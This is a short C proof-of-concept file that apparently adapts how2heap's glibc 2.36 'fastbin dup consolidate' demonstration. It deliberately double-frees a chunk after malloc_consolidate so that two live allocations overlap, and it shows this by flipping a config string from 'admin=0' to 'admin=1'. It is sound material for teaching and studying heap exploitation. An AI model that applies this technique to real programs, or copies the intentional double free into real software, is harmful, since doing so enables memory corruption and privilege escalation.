/* Fastbin dup consolidate: a fast chunk is merged into the top chunk by malloc_consolidate,
 * handed out again as a large chunk, and the dangling pointer frees it a second time.
 * Published: shellphish/how2heap, glibc_2.36/fastbin_dup_consolidate.c.
 * Primitive: double free -> two live pointers to one chunk. */
#include <string.h>
#include "common.h"

int main(void) {
    test_init();
    printf("fastbin dup consolidate: double free after malloc_consolidate\n");
    void *fill[7];
    for (int i = 0; i < 7; i++)
        fill[i] = malloc(0x40);
    void *p1 = malloc(0x40);
    print_ptr("victim", p1);
    for (int i = 0; i < 7; i++)
        free(fill[i]);
    free(p1);                    /* fastbin */
    char *p2 = malloc(0x400);    /* malloc_consolidate: p1 merges with top; p2 == p1 */
    strcpy(p2, "config: admin=0");
    free(p1);                    /* BUG: double free (p1 is p2 now) */
    char *p3 = malloc(0x400);    /* the attacker's buffer */
    strcpy(p3, "config: admin=1");
    if (strcmp(p2, "config: admin=1") == 0)
        printf("ATTACK SUCCEEDED: two live allocations share one chunk\n");
    else
        printf("attack failed\n");
    return 0;
}
